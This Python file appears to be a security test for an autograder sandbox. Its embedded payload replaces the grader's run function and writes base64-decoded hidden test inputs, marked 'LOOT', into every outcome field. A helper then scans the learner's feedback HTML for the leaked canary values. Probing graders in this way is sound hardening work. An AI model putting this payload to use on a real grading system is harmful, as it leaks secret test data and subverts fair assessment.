"""Put hidden inputs into every text of an answer, from the process that is asked."""

STOCK = "it attacks the way to the judge, which stock nbgrader does not have"
TRIED = False
LOSES = True
FIRST = """
import base64, struct
from autograder.sandbox import shell
def told(form):
    found = []
    for value in form["args"]:
        raw = base64.b64decode(value["array"]["base64"]) if "array" in value else b""
        found += [f"{v:.1f}" for v, in struct.iter_unpack("d", raw[:len(raw) // 8 * 8])]
    return "LOOT " + " ".join(sorted(found, key=float)[-3:])
def answers(forms, *_, **__):
    made = []
    for form in forms:
        texts = [told(case) for case in form["cases"]]
        outcomes = [
            {"error": t, "message": t, "line": 7, "warned": [t], "changed": [t],
             "shared": [t], "aliased": [t], "advice": t, "again": t}
            if n % 2 else
            {"value": {"dict": [[t, t]]}, "warned": [t], "changed": [t], "advice": t}
            for n, t in enumerate(texts)
        ]
        kind = "function" if form["name"] == "centre" else " ".join(texts)
        more = {"differs": True, "seconds": 1.0}
        made.append({"kind": kind, "outcomes": outcomes, **more})
    return made
for name, function in list(shell.CALLS.items()):
    if function is shell.driving.run:
        shell.CALLS[name] = answers
shell.driving.run = answers
"""


def harm(place):
    """Look for any of them on the learner's page."""
    pages = (place.root / "feedback" / place.name).rglob("*.html")
    texts = [page.read_text() for page in pages]
    hidden = ("8675309", "canary")
    return [word for word in hidden for text in texts if f"{word}.0" in text]
